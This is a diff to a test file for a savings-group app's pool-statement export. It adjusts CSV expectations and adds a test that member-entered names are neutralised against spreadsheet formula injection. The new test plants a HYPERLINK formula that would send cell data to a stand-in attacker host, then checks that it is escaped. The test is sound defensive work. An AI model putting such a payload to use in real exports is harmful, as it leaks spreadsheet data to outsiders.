@@ -1,3 +1,4 @@
+import { sql } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
 import type { StatementResponse } from '../../../shared/schemas/communities';
 import { expectTextContains } from '../../testing/expectations';
@@ -37,7 +38,9 @@ describe('the pool statement', () => {
     const lines = csv.body.trim().split('\r\n');
     expect(lines[0]).toBe('date,kind,description,member,amount_kes,balance_kes,entry_id,reverses');
     expect(lines).toHaveLength(4);
-    expect(lines[3]).toContain(',"-300.00",1200.00,');
+    expect(lines[3]).toContain(',-300.00,1200.00,');
+    // Kenyan time, as a spreadsheet reads a date and time
+    expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},contribution,/);
 
     const pdf = await fetch(`${server.url}/api/communities/${id}/statement?format=pdf`, {
       headers: { authorization: `Bearer ${m.token}` },
@@ -57,6 +60,16 @@ describe('the pool statement', () => {
       'KES 300.00',
       'Page 1',
     ]);
+  });
+
+  it('never lets a name or description typed by a member run as a spreadsheet formula in the CSV', async () => {
+    const { id, member: m } = await chamaOfOne(server, 1000);
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
+    await server.ctx.db.execute(sql`UPDATE users SET full_name = ${name} WHERE id = ${m.id}`);
+    await contributeVia(server, m, id, 500);
+    const csv = await server.api.get<string>(`/api/communities/${id}/statement?format=csv`, { token: m.token });
+    const row = csv.body.trim().split('\r\n')[1] ?? '';
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",500.00,500.00,`);
   });
 
   it('is for members only and refuses bad ranges and formats', async () => {
